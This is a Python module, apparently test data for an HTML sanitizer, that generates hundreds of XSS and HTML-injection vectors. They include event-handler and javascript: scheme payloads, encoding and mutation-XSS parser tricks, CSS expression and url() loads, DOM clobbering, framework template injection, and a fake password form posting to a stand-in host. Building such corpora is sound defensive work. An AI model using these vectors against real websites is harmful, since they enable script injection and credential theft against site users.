"""Ways to run a script, load something or leave the frame out of HTML, as many forms as are known to us."""

from __future__ import annotations

_PAYLOAD = "alert(1)"
_EVENTS_WORDS = """
onerror onload onclick onmouseover onmouseenter onfocus onfocusin onblur onanimationstart onanimationend
ontransitionend onbegin onend ontoggle onpointerenter onpointerrawupdate onwheel onscroll onscrollend
onresize onhashchange onmessage onpageshow onbeforetoggle oncontentvisibilityautostatechange onsearch
oninput onchange onsubmit onreset onselect oncut oncopy onpaste ondrag ondrop onplay onstart onfinish
"""
_EVENTS = _EVENTS_WORDS.split()
_TAGS_WORDS = """
script style iframe frame frameset object embed applet form input button select textarea option keygen
isindex svg math video audio source track link meta base title template slot portal marquee bgsound layer
ilayer xml xss noscript noembed noframes plaintext xmp listing dialog details canvas param image body
html head picture animate set foreignObject use handler
"""
_TAGS = _TAGS_WORDS.split()
_SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", " javascript:alert(1)",
    "\x01javascript:alert(1)", "\x1fjavascript:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "vbscript:msgbox(1)",
    "livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "data:application/xhtml+xml,<x/>", "data:,x", "blob:https://e.example/x", "filesystem:https://e.example/x",
    "file:///etc/passwd", "ftp://e.example/x", "about:blank", "view-source:https://e.example/", "jar:https://e.example/!x", "feed:javascript:alert(1)",
    "ws://e.example/", "//e.example/x", "/admin/delete", "?x=1", "#x", "../x", "\\\\e.example\\x", "javascript://%0aalert(1)", "&#x1;javascript:alert(1)",
]  # fmt: skip
_STYLES = [
    "background:url(javascript:alert(1))", "background:url(https://e.example/x)", "background-image:url('https://e.example/x')", "width:expression(alert(1))",
    "behavior:url(x.htc)", "-moz-binding:url(x.xml#x)", "list-style:url(https://e.example/x)", "content:url(https://e.example/x)", "cursor:url(https://e.example/x),auto",
    "position:fixed;top:0;left:0;width:100%;height:100%", "position:absolute;z-index:9999", "color:red;background:u\\72l(https://e.example/x)", "filter:url(#x)",
    "background:image-set('https://e.example/x' 1x)", "@import 'https://e.example/x'", "width:exp/**/ression(alert(1))", "color:red}</style><script>alert(1)</script>",
    "font-family:x;src:url(https://e.example/f)", "mask:url(https://e.example/x)", "border-image:url(https://e.example/x)", "color:var(--x)", "transform:scale(99)",
    "width:calc(1px + attr(x))", "animation:x 1s", "color:red\\;background:url(x)", "font-family:'a;background:url(https://e.example/x)'",
]  # fmt: skip
_WHOLE = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//e.example/x></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script >", "<script\n>alert(1)</script\t>",
    "<<script>alert(1);//<</script>", "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>", "<img src='x'onerror=alert(1)>", "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">', "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script xlink:href=data:,alert(1)></script>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><foreignObject><iframe src=javascript:alert(1)>", "<svg><use href=data:image/svg+xml,x>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<title><img src=x onerror=alert(1)></title>",
    "<textarea><script>alert(1)</script></textarea>", "<textarea></textarea><script>alert(1)</script>", "<plaintext><script>alert(1)</script>", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=1?><script>alert(1)</script>", "<!doctype x [<!entity y 'z'>]><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<embed src=data:text/html,x>", "<applet code=x>",
    "<base href=javascript:alert(1)//>", "<base href=https://e.example/>", "<base target=_parent>", "<link rel=stylesheet href=https://e.example/x.css>", "<link rel=prefetch href=https://e.example/>", "<link rel=dns-prefetch href=//e.example>", "<link rel=import href=x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=refresh content='0;url=https://e.example'>", "<meta http-equiv=set-cookie content=x>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<form action=https://e.example><input name=password><button>Log in</button></form>", "<form><button formaction=javascript:alert(1)>x", "<input autofocus onfocus=alert(1)>", "<input type=image src=https://e.example/x>", "<isindex action=javascript:alert(1) type=submit>",
    "<video src=https://e.example/x autoplay>", "<video poster=https://e.example/x>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<picture><source srcset=https://e.example/x><img></picture>", "<img srcset='https://e.example/x 1x'>", "<img lowsrc=https://e.example/x>", "<img dynsrc=x>", "<img src=https://e.example/x>",
    "<img src=//e.example/x>", "<img src=' https://e.example/x'>", "<img src=data:image/svg+xml;base64,PHN2Zy8+>", "<img longdesc=javascript:alert(1)>", "<img usemap=#x><map name=x><area href=javascript:alert(1)></map>", "<body background=https://e.example/x>", "<table background=https://e.example/x><td background=//e.example/y>",
    "<body onload=alert(1)>", "<body style=background:url(//e.example)>", "<bgsound src=javascript:alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<details open ontoggle=alert(1)>", "<dialog open onclose=alert(1)>", "<a href=x ping=https://e.example/>x</a>", "<a download href=https://e.example/>x</a>", "<a target=_top href=https://e.example>x</a>",
    "<style>@import url(https://e.example/x)</style>", "<style>*{background:url(https://e.example/x)}</style>", "<style><script>alert(1)</script></style>", "<style></style><script>alert(1)</script>", "<style/onload=alert(1)>", "<p style=\"x:</style><script>alert(1)</script>\">", "<div style='x' onclick=alert(1) style='y'>",
    "<a href='x' href='javascript:alert(1)'>x</a>", "<a href=javascript:alert(1) href=https://e.example>x</a>", "<a\x00 href=javascript:alert(1)>x</a>", "<a href=\x00javascript:alert(1)>x</a>", "<a href=java\x00script:alert(1)>x</a>", "<img src=x one\x00rror=alert(1)>", "<\x00script>alert(1)</script>",
    "<a href=\"javas\u200bcript:alert(1)\">x</a>", "<a href='\u3000javascript:alert(1)'>x</a>", "\ufeff<script>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "＜script＞alert(1)＜/script＞", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;",
    "<p id=cookie name=body>clobber</p>", "<img name=getElementById>", "<form id=document><input name=cookie></form>", "<a id=x><a id=x name=y href=https://e.example>", "<div is=x-y>x</div>", "<x-y>custom</x-y>", "<p slot=x>", "<p contenteditable onbeforeinput=alert(1)>", "<p accesskey=x onclick=alert(1)>", "<p tabindex=1 autofocus onfocus=alert(1)>", "<p hx-get=/admin hx-trigger=load>x</p>", "<p data-hx-post=/admin>x</p>", "<p _='on load call alert(1)'>x</p>", "<p x-data x-init=alert(1)>x</p>", "<p v-html=x @click=alert(1)>x</p>", "<p ng-app ng-csp>{{constructor.constructor('alert(1)')()}}</p>", "<p data-blocked-src=https://e.example/>x</p>", "<img data-blocked-src=javascript:alert(1)>", "<img src=cid:x\" onerror=\"alert(1)>", "<img src='cid:x&quot; onerror=&quot;alert(1)'>", "<img title='\" onerror=alert(1) x=\"' src=cid:x>", "<a title='&quot;&gt;&lt;script&gt;' href=https://e.example>x</a>", "<p title='<img src=https://e.example/x>'>x</p>",
    "<table><caption><svg><title><style></title><img src onerror=alert(1)></style></svg></caption></table>", "<b><style><title></b><img src=x onerror=alert(1)></title></style>", "<select><style></select><img src=x onerror=alert(1)></style>", "<select><noembed></select><script x='a@b'>y='a@b'//a@b%0a\\u0061lert(1)</script x>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><p><style><g title=\"</style><img src onerror=alert(1)>\">", "<form><input type=hidden><math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\">", "<div><math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
]  # fmt: skip


def vectors() -> list[str]:
    """All of them."""
    found = list(_WHOLE)
    found += [f"<{tag}>x</{tag}>" for tag in _TAGS]
    found += [
        f"<{tag} src=https://e.example/x href=javascript:alert(1) onload={_PAYLOAD} onclick={_PAYLOAD}>x"
        for tag in _TAGS
    ]
    for event in _EVENTS:
        found += [
            f"<p {event}={_PAYLOAD}>x</p>",
            f'<img src=x {event}="{_PAYLOAD}">',
            f"<svg {event.upper()}={_PAYLOAD}>",
            f"<a/{event}='{_PAYLOAD}'/href=https://e.example>x</a>",
        ]
    for scheme in _SCHEMES:
        found += [
            f'<a href="{scheme}">x</a>',
            f'<img src="{scheme}">',
            f"<a href='{scheme}' target=_self>x</a>",
            f'<form action="{scheme}"><input type=submit></form>',
            f'<q cite="{scheme}">x</q>',
            f'<table background="{scheme}"><tr><td>x',
        ]
    for style in _STYLES:
        found += [
            f'<p style="{style}">x</p>',
            f"<style>p{{{style}}}</style><p>x</p>",
            f'<font style="{style.upper()}">x</font>',
        ]
    return found
